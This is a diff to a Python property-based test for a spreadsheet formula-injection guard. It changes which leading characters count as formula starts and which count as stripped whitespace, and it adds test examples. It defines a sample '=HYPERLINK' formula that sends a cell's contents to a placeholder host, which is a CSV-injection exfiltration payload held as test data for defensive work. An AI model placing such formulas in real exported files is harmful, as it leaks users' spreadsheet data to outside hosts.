@@ -16,13 +16,15 @@ from src.tables.guard import guarded, unguarded
 from src.tables.reading import read_table
 from src.tables.writing import as_written, write_csv
 
-RUN = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"
-STRIPPED = " \u00a0\u3000\u200b\ufeff\"'"  # by some programs, before they look for a formula
+RUN = "=+-@\uff1d\uff0b\uff0d\uff20"
+STRIPPED = " \t\r\n\u00a0\u3000\u200b\ufeff\"'"  # by some programs, before they look for a formula
 FORMULA = '=HYPERLINK("http://x/?"&A1,"ann")'
 
 
 @given(st.text(STRIPPED, max_size=4), st.sampled_from(RUN), st.text(max_size=5))
 @example("", "=", "1+1")
+@example("\t", "=", "")
+@example("\r", "@", "SUM(1)")
 def test_whatever_may_run_has_an_apostrophe_and_comes_back(before, sign, rest) -> None:
     text = before + sign + rest
     assert guarded(text).startswith("'")
